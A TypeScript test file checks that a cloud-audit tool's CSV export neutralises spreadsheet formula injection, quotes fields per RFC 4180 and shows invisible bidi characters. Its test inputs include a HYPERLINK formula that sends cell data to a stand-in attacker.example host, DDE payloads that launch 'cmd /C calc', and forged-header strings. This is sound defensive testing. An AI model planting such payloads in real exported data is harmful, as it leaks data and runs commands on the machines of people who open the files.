import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../functions/core/model/finding.ts';
import { CSV_COLUMNS, csvHeader, csvRow, neutraliseFormula } from '../../functions/core/report/render-csv.ts';
import { makeVisible } from '../../functions/core/text/invisible-characters.ts';
import { ACCOUNTS, assumeRoleRecord, denied, iamUser, patched } from '../rules/support/cloudtrail-records.ts';
import { exampleConfig, judgeRecords } from './support.ts';

const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\tleading tab',
  '\rleading carriage return',
  'comma, "quotes" and\nline\r\nbreaks',
  'ünïcödé ‮reversed‬',
  'curl/8.5\nX-Forged: 1',
  'curl/8.5\rX-Forged: 2',
];

/** What the CSV writes for a value: invisible characters as `\u{…}`, line breaks kept. */
const visible = (v: string): string => v.replace(/[^\r]+/g, makeVisible);

function hostileFindings(): Finding[] {
  const records = HOSTILE.map((text, i) =>
    patched(
      denied(
        assumeRoleRecord({
          identity: iamUser(ACCOUNTS.tooling, `u${i}`),
          roleArn: `arn:aws:iam::${ACCOUNTS.prod}:role/Deploy`,
          eventID: `csv-${i}`,
        }),
      ),
      { userAgent: text, errorMessage: text },
    ),
  );
  return [...judgeRecords(records, exampleConfig()).findings];
}

describe('findings.csv', () => {
  it('round-trips every field through a CSV parser, formula cells neutralised with a leading quote', () => {
    const findings = hostileFindings();
    expect(findings).toHaveLength(HOSTILE.length);
    const text = csvHeader() + findings.map(csvRow).join('');
    const rows: string[][] = parse(text, { relax_column_count: false });
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(findings.length + 1);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    findings.forEach((f, i) => {
      const row = rows[i + 1] ?? [];
      expect(row).toHaveLength(CSV_COLUMNS.length);
      expect(row[col('id')]).toBe(f.id);
      expect(row[col('userAgent')]).toBe(neutraliseFormula(visible(f.userAgent ?? '')));
      expect(row[col('actual')]).toBe(neutraliseFormula(visible(f.evidence.actual)));
      expect(row[col('roleArn')]).toBe(f.role?.arn ?? '');
      expect(row[col('suppressed')]).toBe('false');
    });
    // Every cell a spreadsheet would evaluate starts with the neutralising quote.
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const agents = rows.slice(1).map((r) => r[col('userAgent')]);
    expect(agents).toContain(`'${HOSTILE[0]}`);
    expect(agents).toContain(HOSTILE[6]);
    // Bidi overrides (and controls, zero-width characters) are shown, not obeyed, as in every format.
    expect(agents).toContain('ünïcödé \\u{202e}reversed\\u{202c}');
  });

  it('quotes per RFC 4180 and ends records with CRLF', () => {
    const [f] = hostileFindings().filter((x) => x.userAgent === HOSTILE[6]);
    const row = csvRow(f!);
    expect(row.endsWith('\r\n')).toBe(true);
    expect(row).toContain('"comma, ""quotes"" and\nline\r\nbreaks"');
  });

  it('quotes a field whose only special character is a lone line feed or carriage return', () => {
    const findings = hostileFindings();
    const lf = findings.find((x) => x.userAgent === 'curl/8.5\nX-Forged: 1');
    const cr = findings.find((x) => x.userAgent === 'curl/8.5\rX-Forged: 2');
    expect(csvRow(lf!)).toContain(',"curl/8.5\nX-Forged: 1",');
    expect(csvRow(cr!)).toContain(',"curl/8.5\rX-Forged: 2",');
  });
});
